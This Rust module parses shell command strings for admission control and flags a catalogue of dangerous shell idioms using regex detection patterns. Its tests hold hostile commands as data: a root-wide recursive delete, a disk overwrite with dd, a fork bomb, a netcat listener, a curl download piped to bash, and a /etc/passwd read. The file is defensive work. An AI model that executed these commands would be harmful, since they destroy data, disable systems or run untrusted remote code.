//! Shell command parsing for admission control.
//!
//! Tokenizes a raw shell string respecting quoting and escaping, splits it
//! into individual commands at unquoted operators, surfaces every command
//! substitution (including nested ones), and screens for a fixed catalogue
//! of high-risk shell idioms.
//!
//! Pure functions, no state.

use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

/// Maximum substitution nesting depth the extractor will follow.
const MAX_SUBSTITUTION_DEPTH: usize = 16;

/// Result of decomposing a shell string.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
pub struct ParsedCommand {
    /// Individual commands, split at unquoted `;`, `|`, `&&`, `||`, `&`.
    /// Includes commands extracted from inside substitutions.
    pub commands: Vec<String>,
    /// Verbatim spans of every detected command substitution.
    pub suspicious: Vec<String>,
}

/// Result of screening a raw string against the dangerous-idiom catalogue.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
pub struct DangerReport {
    /// `true` when at least one pattern matched.
    pub dangerous: bool,
    /// Labels of every matched pattern.
    pub patterns: Vec<String>,
}

/// Decompose a shell command string into individual commands and
/// substitution spans.
///
/// Substitution contents are re-parsed recursively, so
/// `$(echo $(whoami))` surfaces both `echo ...` and `whoami` as commands
/// and both spans as suspicious.
pub fn parse(command: &str) -> ParsedCommand {
    let mut parsed = ParsedCommand::default();
    collect(command, &mut parsed, 0);
    parsed
}

fn collect(input: &str, out: &mut ParsedCommand, depth: usize) {
    if depth >= MAX_SUBSTITUTION_DEPTH {
        return;
    }

    for span in find_substitutions(input) {
        out.suspicious.push(span.text.clone());
        collect(&span.inner, out, depth + 1);
    }

    for command in split_commands(input) {
        out.commands.push(command);
    }
}

/// One detected command-substitution span.
struct Substitution {
    /// The span exactly as it appeared, delimiters included.
    text: String,
    /// The content between the delimiters.
    inner: String,
}

/// Locate `$(...)`, backtick spans, and command-like `${...}` spans.
///
/// `${...}` is only reported when its content looks like a command rather
/// than a plain parameter expansion: it must contain a space, `;`, or `|`.
fn find_substitutions(input: &str) -> Vec<Substitution> {
    let chars: Vec<char> = input.chars().collect();
    let mut found = Vec::new();
    let mut i = 0;

    while i < chars.len() {
        match chars[i] {
            '$' if i + 1 < chars.len() && chars[i + 1] == '(' => {
                if let Some(end) = matching_paren(&chars, i + 1) {
                    let text: String = chars[i..=end].iter().collect();
                    let inner: String = chars[i + 2..end].iter().collect();
                    found.push(Substitution { text, inner });
                    i = end + 1;
                    continue;
                }
                i += 1;
            }
            '$' if i + 1 < chars.len() && chars[i + 1] == '{' => {
                if let Some(end) = matching_brace(&chars, i + 1) {
                    let inner: String = chars[i + 2..end].iter().collect();
                    if inner.contains(' ') || inner.contains(';') || inner.contains('|') {
                        let text: String = chars[i..=end].iter().collect();
                        found.push(Substitution { text, inner });
                    }
                    i = end + 1;
                    continue;
                }
                i += 1;
            }
            '`' => {
                if let Some(off) = chars[i + 1..].iter().position(|&c| c == '`') {
                    let end = i + 1 + off;
                    let text: String = chars[i..=end].iter().collect();
                    let inner: String = chars[i + 1..end].iter().collect();
                    found.push(Substitution { text, inner });
                    i = end + 1;
                    continue;
                }
                i += 1;
            }
            _ => i += 1,
        }
    }

    found
}

/// Index of the `)` matching the `(` at `open`, honouring nesting.
fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &c) in chars.iter().enumerate().skip(open) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// Index of the `}` matching the `{` at `open`, honouring nesting.
fn matching_brace(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &c) in chars.iter().enumerate().skip(open) {
        match c {
            '{' => depth += 1,
            '}' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    /// Command separator: `;`, `|`, `&&`, `||`, `&`.
    Separator,
    /// Non-separating operator retained in the command (`>`, `>>`, `<`, `<<`).
    Operator(String),
}

/// Split a shell string into individual commands at unquoted separators.
fn split_commands(input: &str) -> Vec<String> {
    let mut commands = Vec::new();
    let mut current: Vec<String> = Vec::new();

    for token in tokenize(input) {
        match token {
            Token::Word(w) => current.push(w),
            Token::Operator(op) => current.push(op),
            Token::Separator => {
                if !current.is_empty() {
                    commands.push(current.join(" "));
                    current.clear();
                }
            }
        }
    }
    if !current.is_empty() {
        commands.push(current.join(" "));
    }
    commands
}

/// Tokenize respecting single/double quotes and backslash escapes.
///
/// Backslash-newline is a line continuation and is consumed silently.
/// An unmatched quote runs to end of input; the trailing partial token is
/// still emitted.
fn tokenize(input: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut word = String::new();
    let mut has_word = false;
    let mut chars = input.chars().peekable();

    macro_rules! flush_word {
        () => {
            if has_word {
                tokens.push(Token::Word(std::mem::take(&mut word)));
                has_word = false;
            }
        };
    }

    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\n') => {} // line continuation
                Some(next) => {
                    word.push(next);
                    has_word = true;
                }
                None => {}
            },
            '\'' => {
                has_word = true;
                for qc in chars.by_ref() {
                    if qc == '\'' {
                        break;
                    }
                    word.push(qc);
                }
            }
            '"' => {
                has_word = true;
                while let Some(qc) = chars.next() {
                    match qc {
                        '"' => break,
                        '\\' => match chars.next() {
                            Some('\n') => {}
                            Some(esc @ ('"' | '\\' | '$' | '`')) => word.push(esc),
                            Some(other) => {
                                word.push('\\');
                                word.push(other);
                            }
                            None => word.push('\\'),
                        },
                        _ => word.push(qc),
                    }
                }
            }
            '$' if chars.peek() == Some(&'(') => {
                // Keep a substitution atomic within its token.
                has_word = true;
                word.push('$');
                let mut depth = 0usize;
                for sc in chars.by_ref() {
                    word.push(sc);
                    match sc {
                        '(' => depth += 1,
                        ')' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
            }
            '`' => {
                has_word = true;
                word.push('`');
                for sc in chars.by_ref() {
                    word.push(sc);
                    if sc == '`' {
                        break;
                    }
                }
            }
            ';' => {
                flush_word!();
                tokens.push(Token::Separator);
            }
            '&' => {
                flush_word!();
                if chars.peek() == Some(&'&') {
                    chars.next();
                }
                tokens.push(Token::Separator);
            }
            '|' => {
                flush_word!();
                if chars.peek() == Some(&'|') {
                    chars.next();
                }
                tokens.push(Token::Separator);
            }
            '>' => {
                flush_word!();
                if chars.peek() == Some(&'>') {
                    chars.next();
                    tokens.push(Token::Operator(">>".to_string()));
                } else {
                    tokens.push(Token::Operator(">".to_string()));
                }
            }
            '<' => {
                flush_word!();
                if chars.peek() == Some(&'<') {
                    chars.next();
                    tokens.push(Token::Operator("<<".to_string()));
                } else {
                    tokens.push(Token::Operator("<".to_string()));
                }
            }
            c if c.is_whitespace() => flush_word!(),
            _ => {
                word.push(c);
                has_word = true;
            }
        }
    }
    if has_word {
        tokens.push(Token::Word(word));
    }

    tokens
}

/// Fixed catalogue of high-risk shell idioms, label + pattern.
fn danger_catalogue() -> &'static Vec<(&'static str, Regex)> {
    static CATALOGUE: OnceLock<Vec<(&'static str, Regex)>> = OnceLock::new();
    CATALOGUE.get_or_init(|| {
        let table: &[(&str, &str)] = &[
            (
                "recursive delete of filesystem root",
                r"(?i)\brm\s+(?:--?[a-z-]+\s+)*--?[a-z]*r[a-z]*\s+/(?:$|\s|\*)",
            ),
            (
                "disk device overwrite",
                r"(?i)\bdd\s+[^|;&]*\bof=/dev/(?:sd|hd|nvme|vd|xvd|mmcblk)",
            ),
            ("filesystem format", r"(?i)\bmkfs(?:\.[a-z0-9]+)?\b"),
            (
                "system shutdown or reboot",
                r"(?i)\b(?:shutdown|reboot|halt|poweroff)\b",
            ),
            ("forced process kill", r"(?i)\bkill(?:all)?\s+-(?:9|kill)\b"),
            (
                "netcat listener",
                r"(?i)\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-z]*l",
            ),
            (
                "download piped to shell",
                r"(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:ba|da|z|a|k|tc|c)?sh\b",
            ),
            ("privilege escalation", r"(?i)\b(?:sudo|doas)\b|(?:^|;|&|\|)\s*su\s"),
            ("fork bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}"),
            (
                "raw device write",
                r"(?i)>\s*/dev/(?:sd|hd|nvme|vd|xvd|mem|kmem|port)",
            ),
        ];
        table
            .iter()
            .filter_map(|(label, pattern)| Regex::new(pattern).ok().map(|re| (*label, re)))
            .collect()
    })
}

/// Screen a raw command string against the dangerous-idiom catalogue.
///
/// Returns every matched pattern's label; one match is enough to flag the
/// command as dangerous.
pub fn contains_dangerous_patterns(command: &str) -> DangerReport {
    let mut patterns = Vec::new();
    for (label, re) in danger_catalogue() {
        if re.is_match(command) {
            patterns.push((*label).to_string());
        }
    }
    DangerReport {
        dangerous: !patterns.is_empty(),
        patterns,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_pipeline_splits_into_stages() {
        let parsed = parse("cat file.txt | grep pattern | wc -l");
        assert_eq!(
            parsed.commands,
            vec!["cat file.txt", "grep pattern", "wc -l"]
        );
        assert!(parsed.suspicious.is_empty());
    }

    #[test]
    fn test_semicolon_and_logical_operators_split() {
        let parsed = parse("make build && make test; echo done || echo failed & wait");
        assert_eq!(
            parsed.commands,
            vec!["make build", "make test", "echo done", "echo failed", "wait"]
        );
    }

    #[test]
    fn test_quoted_operators_never_split() {
        let parsed = parse(r#"echo "a | b; c" 'd && e'"#);
        assert_eq!(parsed.commands, vec!["echo a | b; c d && e"]);
    }

    #[test]
    fn test_redirection_operators_retained_in_command() {
        let parsed = parse("echo hi > out.txt");
        assert_eq!(parsed.commands, vec!["echo hi > out.txt"]);
        let parsed = parse("cat >> log.txt; ls");
        assert_eq!(parsed.commands, vec!["cat >> log.txt", "ls"]);
    }

    #[test]
    fn test_dollar_paren_substitution_reported_and_extracted() {
        let parsed = parse("echo $(whoami)");
        assert_eq!(parsed.suspicious, vec!["$(whoami)"]);
        assert!(parsed.commands.iter().any(|c| c == "whoami"));
    }

    #[test]
    fn test_nested_substitution_surfaces_inner_commands() {
        let parsed = parse("echo $(echo $(whoami))");
        assert!(parsed.suspicious.contains(&"$(echo $(whoami))".to_string()));
        assert!(parsed.suspicious.contains(&"$(whoami)".to_string()));
        assert!(parsed.commands.iter().any(|c| c == "whoami"));
        assert!(parsed.commands.iter().any(|c| c.starts_with("echo")));
    }

    #[test]
    fn test_backtick_substitution() {
        let parsed = parse("echo `id -u`");
        assert_eq!(parsed.suspicious, vec!["`id -u`"]);
        assert!(parsed.commands.iter().any(|c| c == "id -u"));
    }

    #[test]
    fn test_command_like_brace_expansion_flagged() {
        let parsed = parse("echo ${cat /etc/passwd}");
        assert!(parsed
            .suspicious
            .contains(&"${cat /etc/passwd}".to_string()));
    }

    #[test]
    fn test_plain_parameter_expansion_not_flagged() {
        let parsed = parse("echo ${HOME}");
        assert!(parsed.suspicious.is_empty());
    }

    #[test]
    fn test_unmatched_quote_emits_partial_token() {
        let parsed = parse("echo \"unterminated");
        assert_eq!(parsed.commands, vec!["echo unterminated"]);
    }

    #[test]
    fn test_backslash_newline_continuation_consumed() {
        let parsed = parse("echo one \\\ntwo");
        assert_eq!(parsed.commands, vec!["echo one two"]);
    }

    #[test]
    fn test_escaped_separator_does_not_split() {
        let parsed = parse(r"echo a\;b");
        assert_eq!(parsed.commands, vec!["echo a;b"]);
    }

    #[test]
    fn test_empty_segments_dropped() {
        let parsed = parse("ls ;; ; echo hi");
        assert_eq!(parsed.commands, vec!["ls", "echo hi"]);
    }

    #[test]
    fn test_rm_rf_root_is_dangerous() {
        let report = contains_dangerous_patterns("rm -rf /");
        assert!(report.dangerous);
        assert!(report
            .patterns
            .iter()
            .any(|p| p.contains("recursive delete")));
    }

    #[test]
    fn test_benign_listing_is_not_dangerous() {
        let report = contains_dangerous_patterns("ls -la");
        assert!(!report.dangerous);
        assert!(report.patterns.is_empty());
    }

    #[test]
    fn test_dd_device_overwrite() {
        let report = contains_dangerous_patterns("dd if=/dev/zero of=/dev/sda bs=1M");
        assert!(report.dangerous);
        assert!(report.patterns.iter().any(|p| p.contains("disk device")));
    }

    #[test]
    fn test_curl_pipe_shell() {
        let report = contains_dangerous_patterns("curl -s http://x.example/i.sh | bash");
        assert!(report.dangerous);
        assert!(report.patterns.iter().any(|p| p.contains("piped to shell")));
    }

    #[test]
    fn test_fork_bomb() {
        let report = contains_dangerous_patterns(":(){ :|:& };:");
        assert!(report.dangerous);
        assert!(report.patterns.iter().any(|p| p.contains("fork bomb")));
    }

    #[test]
    fn test_netcat_listener() {
        let report = contains_dangerous_patterns("nc -lvp 4444");
        assert!(report.dangerous);
    }

    #[test]
    fn test_shutdown_and_mkfs() {
        assert!(contains_dangerous_patterns("shutdown -h now").dangerous);
        assert!(contains_dangerous_patterns("mkfs.ext4 /dev/sdb1").dangerous);
    }

    #[test]
    fn test_multiple_patterns_all_reported() {
        let report = contains_dangerous_patterns("sudo rm -rf / && reboot");
        assert!(report.dangerous);
        assert!(report.patterns.len() >= 3);
    }

    #[test]
    fn test_catalogue_compiles_completely() {
        assert_eq!(danger_catalogue().len(), 10);
    }

    #[test]
    fn test_forced_kill() {
        assert!(contains_dangerous_patterns("kill -9 1").dangerous);
        assert!(contains_dangerous_patterns("killall -KILL nginx").dangerous);
        assert!(!contains_dangerous_patterns("kill 1234").dangerous);
    }
}
